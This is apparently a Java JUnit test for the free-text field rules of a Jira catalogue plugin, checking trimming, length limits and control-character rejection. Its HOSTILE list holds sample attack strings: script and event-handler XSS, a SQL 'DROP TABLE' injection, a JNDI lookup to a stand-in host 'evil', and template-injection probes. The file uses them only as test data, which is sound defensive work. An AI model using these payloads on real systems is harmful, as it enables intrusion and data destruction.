package com.cxalign.jira.catalog.rules;

import static com.cxalign.jira.catalog.rules.MetricDrafts.aMetric;
import static com.cxalign.jira.catalog.rules.ReadingDrafts.aReading;
import static com.cxalign.jira.catalog.rules.RuleAssertions.CONTROL_CHARACTERS;
import static com.cxalign.jira.catalog.rules.RuleAssertions.REQUIRED;
import static com.cxalign.jira.catalog.rules.RuleAssertions.TOO_LONG;
import static com.cxalign.jira.catalog.rules.RuleAssertions.assertOnlyError;
import static org.junit.Assert.assertEquals;

import java.util.Arrays;
import java.util.List;
import java.util.function.UnaryOperator;

import org.junit.Test;
import org.junit.runner.RunWith;
import org.junit.runners.Parameterized;
import org.junit.runners.Parameterized.Parameter;
import org.junit.runners.Parameterized.Parameters;

/** The text rules every free-text field of the catalogue shares: trimming, length limits, control characters. */
@RunWith(Parameterized.class)
public class TextFieldRulesTest {

    /** Attacks on the pages and the database that must pass through the rules as plain text (30 characters at most). */
    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "'; DROP TABLE AO_X; --",
            "<img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "${jndi:ldap://evil/a}",
            "#set($x = 1)$x {{7*7}}",
            "&lt;b&gt; &amp; %00 \\u0000");

    @Parameters(name = "{0}")
    public static List<Object[]> fields() {
        return List.of(
                required("goal name", "name", Limits.NAME,
                        text -> GoalRules.check(new GoalDraft(text, null, null, null)).name()),
                optional("goal description", "description", Limits.DESCRIPTION, null,
                        text -> GoalRules.check(new GoalDraft("Goal", text, null, null)).description()),
                optional("goal owner", "ownerKey", Limits.USER_KEY, null,
                        text -> GoalRules.check(new GoalDraft("Goal", null, text, null)).ownerKey()),
                required("mission statement", "statement", Limits.STATEMENT,
                        text -> MissionRules.check(new MissionDraft(text, "Success")).statement()),
                required("success statement", "successStatement", Limits.STATEMENT,
                        text -> MissionRules.check(new MissionDraft("Mission", text)).successStatement()),
                required("metric name", "name", Limits.NAME, text -> aMetric().name(text).check().name()),
                optional("metric unit", "unit", Limits.UNIT, "orders",
                        text -> aMetric().kind("ORDER_VOLUME").unit(text).check().unit()),
                optional("metric owner", "ownerKey", Limits.USER_KEY, null,
                        text -> aMetric().ownerKey(text).check().ownerKey()),
                optional("reading source", "source", Limits.SOURCE, null,
                        text -> aReading().source(text).check().source()),
                optional("reading note", "note", Limits.NOTE, null, text -> aReading().note(text).check().note()));
    }

    private static Object[] required(String label, String field, int limit, UnaryOperator<String> check) {
        return new Object[] {label, field, limit, true, null, check};
    }

    private static Object[] optional(String label, String field, int limit, String whenBlank,
                                     UnaryOperator<String> check) {
        return new Object[] {label, field, limit, false, whenBlank, check};
    }

    @Parameter(0)
    public String label;
    @Parameter(1)
    public String field;
    @Parameter(2)
    public int limit;
    @Parameter(3)
    public boolean required;
    @Parameter(4)
    public String whenBlank;
    /** Runs the rules with the field set to the given text and returns the field's cleaned value. */
    @Parameter(5)
    public UnaryOperator<String> check;

    @Test
    public void textExactlyAtTheLimitIsAccepted() {
        String text = "x".repeat(limit);

        assertEquals(text, check.apply(text));
    }

    @Test
    public void textOneCharacterOverTheLimitIsRefusedNamingTheLimit() {
        assertOnlyError(() -> check.apply("x".repeat(limit + 1)), field, TOO_LONG, String.valueOf(limit));
    }

    @Test
    public void surroundingWhitespaceIsTrimmedBeforeTheLengthIsCounted() {
        String text = "y".repeat(limit);

        assertEquals(text, check.apply(" \t\n" + text + "\r\n  "));
    }

    @Test
    public void blankTextCountsAsMissing() {
        for (String blank : Arrays.asList(null, "", "   ", "\n\t \r\n")) {
            if (required) {
                assertOnlyError(() -> check.apply(blank), field, REQUIRED);
            } else {
                assertEquals(whenBlank, check.apply(blank));
            }
        }
    }

    @Test
    public void controlCharactersInsideTheTextAreRefused() {
        for (String control : List.of("\u0000", "\u0007", "\u0008", "\u001B", "\u007F", "\u0085", "\u009B")) {
            assertOnlyError(() -> check.apply("a" + control + "b"), field, CONTROL_CHARACTERS);
        }
    }

    @Test
    public void tabsAndLineBreaksInsideTheTextAreKept() {
        String text = "one\ttwo\nthree\r\nfour";

        assertEquals(text, check.apply(text));
    }

    @Test
    public void hostileTextWithinTheLimitIsKeptAsPlainTextUnchanged() {
        for (String hostile : HOSTILE) {
            assertEquals(hostile, check.apply(hostile));
        }
    }

    @Test
    public void lettersBeyondAsciiAreKeptUnchanged() {
        String text = "Zoë – 顧客の声 ✓";

        assertEquals(text, check.apply(text));
    }
}
